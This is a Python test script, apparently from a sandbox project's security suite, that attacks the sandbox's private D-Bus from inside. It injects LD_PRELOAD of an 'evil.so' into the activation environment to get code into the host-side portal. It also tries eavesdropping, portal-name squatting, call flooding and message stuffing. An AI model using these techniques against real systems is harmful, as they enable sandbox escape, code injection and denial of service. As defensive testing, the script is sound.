#!/usr/bin/python3
"""The app's side of bus-escape.sh: attacks on the sandbox's private bus,
from inside the sandbox. One line per result: "NAME ok VALUE" or
"NAME error ERROR-NAME".

usage: bus-attack.py attack HOST_SO MARKER   the whole escape: pid, env,
                                             activation
       bus-attack.py driver                  each driver call on its own
       bus-attack.py names                   the portal's names, after
                                             crate-wl took them
       bus-attack.py hold                    connect, then sleep
       bus-attack.py flood N                 N refused calls, then sleep
       bus-attack.py stuff MB                MB of messages for a connection
                                             that never reads, then sleep"""
import os
import shutil
import socket
import sys
import time

from gi.repository import Gio, GLib

DBUS = ("org.freedesktop.DBus", "/org/freedesktop/DBus")
PORTAL = "org.freedesktop.portal.Desktop"


def say(line):
    print(line, flush=True)


def call(bus, name, iface, member, args, dest=DBUS):
    """A driver call (iface None: without an interface field, which the
    daemon dispatches by member alone)."""
    msg = Gio.DBusMessage.new_method_call(dest[0], dest[1], iface, member)
    if args is not None:
        msg.set_body(args)
    reply, _ = bus.send_message_with_reply_sync(
        msg, Gio.DBusSendMessageFlags.NONE, 5000, None)
    if reply.get_message_type() == Gio.DBusMessageType.ERROR:
        say("%s error %s" % (name, reply.get_error_name()))
        return None
    body = reply.get_body()
    value = body.unpack() if body is not None else ()
    say("%s ok %s" % (name, value))
    return value


def wait_portal(bus, seconds):
    loop = GLib.MainLoop()
    watch = Gio.bus_watch_name_on_connection(
        bus, PORTAL, Gio.BusNameWatcherFlags.NONE,
        lambda *a: loop.quit(), None)
    GLib.timeout_add_seconds(seconds, loop.quit)
    loop.run()
    Gio.bus_unwatch_name(watch)


def raw_connection(calls):
    """A connection of our own making: authentication and calls (member,
    args) in one write; returns the socket and the replies by serial."""
    path = os.environ["DBUS_SESSION_BUS_ADDRESS"].split("unix:path=")[1]
    out = b"\0AUTH EXTERNAL %s\r\nBEGIN\r\n" % str(os.getuid()).encode().hex().encode()
    for serial, (member, args) in enumerate(calls, 1):
        msg = Gio.DBusMessage.new_method_call(DBUS[0], DBUS[1],
                                              "org.freedesktop.DBus", member)
        if args is not None:
            msg.set_body(args)
        msg.set_serial(serial)
        out += msg.to_blob(Gio.DBusCapabilityFlags.NONE)
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect(path)
    sock.sendall(out)
    sock.settimeout(10)
    buf = b""
    while b"\r\n" not in buf:
        buf += sock.recv(4096)
    line, buf = buf.split(b"\r\n", 1)
    if not line.startswith(b"OK"):
        sys.exit("authentication: %r" % line)
    answered = {}
    while len(answered) < len(calls):
        while len(buf) < 16 or len(buf) < Gio.DBusMessage.bytes_needed(buf[:16]):
            more = sock.recv(65536)
            if not more:
                sys.exit("the bus hung up")
            buf += more
        n = Gio.DBusMessage.bytes_needed(buf[:16])
        msg = Gio.DBusMessage.new_from_blob(buf[:n], Gio.DBusCapabilityFlags.NONE)
        buf = buf[n:]
        serial = msg.get_reply_serial()
        if serial:
            answered[serial] = msg
    return sock, answered


def pipelined(env):
    """The attack at its fastest: authentication, Hello, the environment
    and the start in one write on the app's first connection, which
    waits in the socket's backlog until the daemon runs: the daemon reads
    it all before crate-wl can even connect."""
    calls = [("Hello", None),
             ("UpdateActivationEnvironment", GLib.Variant("(a{ss})", (env,))),
             ("StartServiceByName", GLib.Variant("(su)", (PORTAL, 0)))]
    sock, answered = raw_connection(calls)
    for serial, (member, _) in enumerate(calls, 1):
        msg = answered[serial]
        name = {"UpdateActivationEnvironment": "env",
                "StartServiceByName": "start"}.get(member)
        if name is None:
            continue
        if msg.get_message_type() == Gio.DBusMessageType.ERROR:
            say("%s error %s" % (name, msg.get_error_name()))
        else:
            body = msg.get_body()
            say("%s ok %s" % (name, body.unpack() if body else ()))
    return sock


def attack(host_so, marker):
    # first as fast as the app can, before crate-wl owns the portal's name
    env = {"LD_PRELOAD": host_so, "CW_EVIL_MARKER": marker}
    first = pipelined(env)
    # then step by step, as found: the app's own host pid first
    bus = Gio.bus_get_sync(Gio.BusType.SESSION, None)
    own = bus.get_unique_name()
    pid = call(bus, "pid", "org.freedesktop.DBus",
               "GetConnectionUnixProcessID", GLib.Variant("(s)", (own,)))
    preload = [host_so]
    if pid and pid[0]:
        # the library at a path of the sandbox's, as the host sees it
        shutil.copy("/.test/evil.so", "/tmp/evil.so")
        preload.insert(0, "/proc/%d/root/tmp/evil.so" % pid[0])
    env = {"LD_PRELOAD": ":".join(preload), "CW_EVIL_MARKER": marker}
    for iface in ("org.freedesktop.DBus", None):
        call(bus, "env", iface, "UpdateActivationEnvironment",
             GLib.Variant("(a{ss})", (env,)))
        call(bus, "start", iface, "StartServiceByName",
             GLib.Variant("(su)", (PORTAL, 0)))
    # an auto-starting call, to the portal and to a name nobody owns
    for dest in (PORTAL, "org.example.Activatable"):
        call(bus, "autostart", "org.freedesktop.DBus.Peer", "Ping", None,
             dest=(dest, "/"))
    first.close()


def driver():
    bus = Gio.bus_get_sync(Gio.BusType.SESSION, None)
    own = bus.get_unique_name()
    wait_portal(bus, 10)
    call(bus, "pid", "org.freedesktop.DBus", "GetConnectionUnixProcessID",
         GLib.Variant("(s)", (own,)))
    for iface, tag in (("org.freedesktop.DBus", ""), (None, "-noiface")):
        call(bus, "env" + tag, iface, "UpdateActivationEnvironment",
             GLib.Variant("(a{ss})", ({"LD_PRELOAD": "/tmp/x.so"},)))
        call(bus, "start" + tag, iface, "StartServiceByName",
             GLib.Variant("(su)", (PORTAL, 0)))
        call(bus, "start-other" + tag, iface, "StartServiceByName",
             GLib.Variant("(su)", ("org.example.Activatable", 0)))
    for iface, tag in (("org.freedesktop.DBus.Monitoring", ""),
                       (None, "-noiface")):
        call(bus, "monitor" + tag, iface, "BecomeMonitor",
             GLib.Variant("(asu)", ([], 0)))
    # an eavesdropper: what one connection of the app sends another, and
    # what it sends the portal, must not reach a third
    spy = Gio.DBusConnection.new_for_address_sync(
        os.environ["DBUS_SESSION_BUS_ADDRESS"],
        Gio.DBusConnectionFlags.AUTHENTICATION_CLIENT |
        Gio.DBusConnectionFlags.MESSAGE_BUS_CONNECTION, None, None)
    seen = []

    def filt(conn, msg, incoming):
        if incoming and msg.get_member() == "Spied":
            seen.append(msg.get_destination())
        return msg

    spy.add_filter(filt)
    call(spy, "eavesdrop-match", "org.freedesktop.DBus", "AddMatch",
         GLib.Variant("(s)", ("eavesdrop=true,member=Spied",)))
    other = Gio.DBusConnection.new_for_address_sync(
        os.environ["DBUS_SESSION_BUS_ADDRESS"],
        Gio.DBusConnectionFlags.AUTHENTICATION_CLIENT |
        Gio.DBusConnectionFlags.MESSAGE_BUS_CONNECTION, None, None)
    for dest in (other.get_unique_name(), PORTAL):
        msg = Gio.DBusMessage.new_method_call(
            dest, "/org/example", "org.example.Spy", "Spied")
        msg.set_flags(Gio.DBusMessageFlags.NO_REPLY_EXPECTED)
        bus.send_message(msg, Gio.DBusSendMessageFlags.NONE)
    bus.flush_sync(None)
    # a roundtrip on the spy after the sends: anything routed to it is in
    call(spy, "sync", "org.freedesktop.DBus", "GetId", None)
    ctx = GLib.MainContext.default()
    end = time.monotonic() + 0.5
    while time.monotonic() < end:
        ctx.iteration(False)
        time.sleep(0.01)
    say("eavesdropped %d" % len(seen))


def names():
    bus = Gio.bus_get_sync(Gio.BusType.SESSION, None)
    wait_portal(bus, 10)
    # crate-wl locks the portal's names (a config reload) right after it
    # takes its own: a name of the prefix is refused from then on. Until
    # then the app may take them (threat-model.md: the race); what is
    # tested here is the state after the lock, so wait for it.
    probe = "org.freedesktop.portal.CrateWlLockProbe"
    end = time.monotonic() + 5
    while time.monotonic() < end:
        msg = Gio.DBusMessage.new_method_call(
            DBUS[0], DBUS[1], "org.freedesktop.DBus", "RequestName")
        msg.set_body(GLib.Variant("(su)", (probe, 4)))
        reply, _ = bus.send_message_with_reply_sync(
            msg, Gio.DBusSendMessageFlags.NONE, 5000, None)
        if reply.get_message_type() == Gio.DBusMessageType.ERROR:
            break
        bus.call_sync("org.freedesktop.DBus", "/org/freedesktop/DBus",
                      "org.freedesktop.DBus", "ReleaseName",
                      GLib.Variant("(s)", (probe,)), None,
                      Gio.DBusCallFlags.NONE, 5000, None)
        time.sleep(0.02)
    owner = call(bus, "owner", "org.freedesktop.DBus", "GetNameOwner",
                 GLib.Variant("(s)", (PORTAL,)))
    say("owner-is-me %s" % (owner is not None and
                            owner[0] == bus.get_unique_name()))
    # 1 allow replacement, 2 replace existing, 4 do not queue
    for name in (PORTAL, "org.freedesktop.portal.Documents",
                 "org.freedesktop.impl.portal.desktop.gtk",
                 "org.freedesktop.impl.portal.PermissionStore",
                 "org.freedesktop.DBus.Monitoring"):
        for flags in (0, 2, 6):
            call(bus, "own %s %d" % (name, flags), "org.freedesktop.DBus",
                 "RequestName", GLib.Variant("(su)", (name, flags)))
    call(bus, "owner-after", "org.freedesktop.DBus", "GetNameOwner",
         GLib.Variant("(s)", (PORTAL,)))


def hold():
    bus = Gio.bus_get_sync(Gio.BusType.SESSION, None)
    wait_portal(bus, 10)
    say("connected %s" % bus.get_unique_name())
    time.sleep(60)


def flood(count):
    bus = Gio.bus_get_sync(Gio.BusType.SESSION, None)
    wait_portal(bus, 10)
    refused = 0
    for _ in range(count):
        msg = Gio.DBusMessage.new_method_call(
            DBUS[0], DBUS[1], "org.freedesktop.DBus",
            "UpdateActivationEnvironment")
        msg.set_body(GLib.Variant("(a{ss})", ({"X" * 200: "Y" * 200},)))
        reply, _ = bus.send_message_with_reply_sync(
            msg, Gio.DBusSendMessageFlags.NONE, 5000, None)
        refused += reply.get_message_type() == Gio.DBusMessageType.ERROR
    say("flooded %d refused %d" % (count, refused))
    time.sleep(60)


def stuff(megabytes):
    bus = Gio.bus_get_sync(Gio.BusType.SESSION, None)
    wait_portal(bus, 10)
    # a connection that says Hello, then never reads again
    sink, answered = raw_connection([("Hello", None)])
    name = answered[1].get_body().unpack()[0]
    chunk = GLib.Variant("(ay)", (b"x" * (512 << 10),))
    for _ in range(megabytes * 2):
        msg = Gio.DBusMessage.new_method_call(name, "/x", "org.example.X",
                                              "Stuff")
        msg.set_body(chunk)
        msg.set_flags(Gio.DBusMessageFlags.NO_REPLY_EXPECTED)
        bus.send_message(msg, Gio.DBusSendMessageFlags.NONE)
    # GDBus writes them from a thread of its own, as fast as the daemon
    # reads: a bounded daemon stops reading, an unbounded one takes all
    time.sleep(3)
    say("stuffed %d MB" % megabytes)
    time.sleep(60)
    sink.close()


case = sys.argv[1]
if case == "attack":
    attack(sys.argv[2], sys.argv[3])
elif case == "driver":
    driver()
elif case == "names":
    names()
elif case == "hold":
    hold()
elif case == "flood":
    flood(int(sys.argv[2]))
elif case == "stuff":
    stuff(int(sys.argv[2]))
else:
    sys.exit("unknown case " + case)
